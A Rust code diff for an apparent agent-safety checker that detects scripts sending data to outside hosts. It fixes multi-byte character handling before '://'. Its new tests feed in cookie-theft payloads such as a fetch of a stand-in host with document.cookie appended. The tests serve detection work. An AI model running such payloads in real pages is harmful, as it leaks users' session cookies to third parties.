@@ -1545,9 +1545,12 @@ fn page_session_sends(tool: &str, input: &Value) -> Vec<Effect> {
         let hosts: Vec<String> = script
             .match_indices("://")
             .filter_map(|(i, _)| {
+                // After the last character that is no letter of the scheme (which may be
+                // longer than a byte: `é://`).
                 let start = script[..i]
-                    .rfind(|c: char| !c.is_ascii_alphabetic())
-                    .map_or(0, |j| j + 1);
+                    .char_indices()
+                    .rfind(|(_, c)| !c.is_ascii_alphabetic())
+                    .map_or(0, |(j, c)| j + c.len_utf8());
                 let url: String = script[start..]
                     .chars()
                     .take_while(|c| !matches!(c, '\'' | '"' | '`' | ' ' | ')' | '+' | ','))
@@ -2007,6 +2010,12 @@ mod tests {
         ] {
             assert_eq!(sends(s), 0, "{s}");
         }
+        // A letter of more than a byte before `://` starts no scheme and splits no character.
+        assert_eq!(sends("fetch('é://x.example.com/?c=' + document.cookie)"), 0);
+        assert_eq!(
+            sends("fetch('ééhttps://x.example.com/?c=' + document.cookie)"),
+            1
+        );
     }
 
     #[test]
